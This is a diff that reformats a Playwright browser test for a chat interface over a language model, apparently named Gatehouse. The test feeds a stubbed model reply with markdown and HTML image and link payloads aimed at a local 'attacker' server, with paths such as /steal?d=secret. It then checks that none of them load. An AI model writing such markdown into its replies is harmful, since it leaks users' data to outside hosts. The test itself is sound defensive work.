@@ -32,7 +32,9 @@ pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(240)]
 playwright_api = pytest.importorskip("playwright.sync_api")
 
 WAIT_MS = 30_000
-PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
+PIXEL = bytes.fromhex(
+    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
+)
 
 
 class Recorder(BaseHTTPRequestHandler):
@@ -68,18 +70,24 @@ def attacker() -> Iterator[tuple[int, list[str], threading.Condition]]:
 
 def reply_for(port: int) -> str:
     base = f"http://127.0.0.1:{port}"
-    return (f"Here is the status: ![status]({base}/px.gif?d=secret)\n\n"
-            f"Also ![ref image][pic] and <img src=\"{base}/raw.gif?d=secret\"> and "
-            f"[docs.python.org]({base}/steal?d=secret).\n\n"
-            f"| a |\n|---|\n| ![cell]({base}/cell.gif) |\n\n"
-            f"[pic]: {base}/ref.gif?d=secret\n")
+    return (
+        f"Here is the status: ![status]({base}/px.gif?d=secret)\n\n"
+        f'Also ![ref image][pic] and <img src="{base}/raw.gif?d=secret"> and '
+        f"[docs.python.org]({base}/steal?d=secret).\n\n"
+        f"| a |\n|---|\n| ![cell]({base}/cell.gif) |\n\n"
+        f"[pic]: {base}/ref.gif?d=secret\n"
+    )
 
 
 @pytest.fixture(scope="module")
-def server(tmp_path_factory: pytest.TempPathFactory, attacker: tuple[int, list[str], Any]) -> Iterator[Server]:
+def server(
+    tmp_path_factory: pytest.TempPathFactory, attacker: tuple[int, list[str], Any]
+) -> Iterator[Server]:
     chromium_path()
-    env = {"GATEHOUSE_MODEL_FACTORY": "tests.support.markdown_model:make_model",
-           "GATEHOUSE_TEST_REPLY": reply_for(attacker[0])}
+    env = {
+        "GATEHOUSE_MODEL_FACTORY": "tests.support.markdown_model:make_model",
+        "GATEHOUSE_TEST_REPLY": reply_for(attacker[0]),
+    }
     with streamlit_server(tmp_path_factory.mktemp("display"), env) as srv:
         yield srv
 
@@ -110,13 +118,19 @@ def main(page: Any) -> Any:
 
 
 def settle(page: Any) -> None:
-    playwright_api.expect(page.get_by_test_id("stBottom").get_by_role("button", name="Stop")).to_have_count(0, timeout=WAIT_MS)
+    playwright_api.expect(
+        page.get_by_test_id("stBottom").get_by_role("button", name="Stop")
+    ).to_have_count(0, timeout=WAIT_MS)
 
 
-def control_request(page: Any, port: int, seen: list[str], arrived: threading.Condition) -> list[str]:
+def control_request(
+    page: Any, port: int, seen: list[str], arrived: threading.Condition
+) -> list[str]:
     """Load one image from the page on purpose; once it arrived, return what else did."""
-    page.evaluate(f"() => {{ const i = new Image(); i.src = 'http://127.0.0.1:{port}/control.gif'; "
-                  "document.body.appendChild(i); }")
+    page.evaluate(
+        f"() => {{ const i = new Image(); i.src = 'http://127.0.0.1:{port}/control.gif'; "
+        "document.body.appendChild(i); }"
+    )
     with arrived:
         assert arrived.wait_for(lambda: "/control.gif" in seen, timeout=WAIT_MS / 1000), seen
     others = [p for p in seen if p != "/control.gif"]
@@ -124,19 +138,27 @@ def control_request(page: Any, port: int, seen: list[str], arrived: threading.Co
     return others
 
 
-def test_model_and_person_markdown_loads_nothing_and_shows_targets(page: Any,
-                                                                   attacker: tuple[int, list[str], Any]) -> None:
+def test_model_and_person_markdown_loads_nothing_and_shows_targets(
+    page: Any, attacker: tuple[int, list[str], Any]
+) -> None:
     port, seen, arrived = attacker
     base = f"http://127.0.0.1:{port}"
-    send(page, f"markdown please ![mine]({base}/mine.gif?d=typed) <img src=\"{base}/mine-raw.gif\">")
+    send(page, f'markdown please ![mine]({base}/mine.gif?d=typed) <img src="{base}/mine-raw.gif">')
     # The targets are on the page as text, where the person can read (and open) them.
-    for target in (f"{base}/px.gif?d=secret", f"{base}/ref.gif?d=secret", f"{base}/steal?d=secret",
-                   f"{base}/cell.gif", f"{base}/mine.gif?d=typed"):
+    for target in (
+        f"{base}/px.gif?d=secret",
+        f"{base}/ref.gif?d=secret",
+        f"{base}/steal?d=secret",
+        f"{base}/cell.gif",
+        f"{base}/mine.gif?d=typed",
+    ):
         playwright_api.expect(main(page)).to_contain_text(target, timeout=WAIT_MS)
     settle(page)
     assert page.locator(f"img[src*='{port}']").count() == 0
     # The misleading link text is followed by the real destination.
-    assert re.search(rf"docs\.python\.org\s*{re.escape(base)}/steal\?d=secret", main(page).inner_text())
+    assert re.search(
+        rf"docs\.python\.org\s*{re.escape(base)}/steal\?d=secret", main(page).inner_text()
+    )
     link = main(page).get_by_role("link", name="status")
     assert link.get_attribute("href") == f"{base}/px.gif?d=secret"  # an image became a link
     screenshot(page, "markdown-images-as-links")
@@ -161,9 +183,14 @@ def test_edit_preview_follows_typing_and_flags_invalid_arguments(page: Any, serv
     # Typed key by key, and the field keeps the focus (no blur, no Ctrl+Enter).
     field.press_sequentially('{"path": "todo.md", "content": "EDITED"}', delay=5)
     playwright_api.expect(main(page)).to_contain_text("+EDITED", timeout=WAIT_MS)
-    assert page.evaluate("() => document.activeElement && document.activeElement.tagName") == "TEXTAREA"
+    assert (
+        page.evaluate("() => document.activeElement && document.activeElement.tagName")
+        == "TEXTAREA"
+    )
     field.press("Control+a")
     field.press_sequentially('{"path": 5, "content": "x"}', delay=5)
-    playwright_api.expect(main(page)).to_contain_text("Invalid arguments, no preview", timeout=WAIT_MS)
+    playwright_api.expect(main(page)).to_contain_text(
+        "Invalid arguments, no preview", timeout=WAIT_MS
+    )
     playwright_api.expect(main(page)).not_to_contain_text("+EDITED", timeout=WAIT_MS)
     screenshot(page, "edit-preview-invalid")
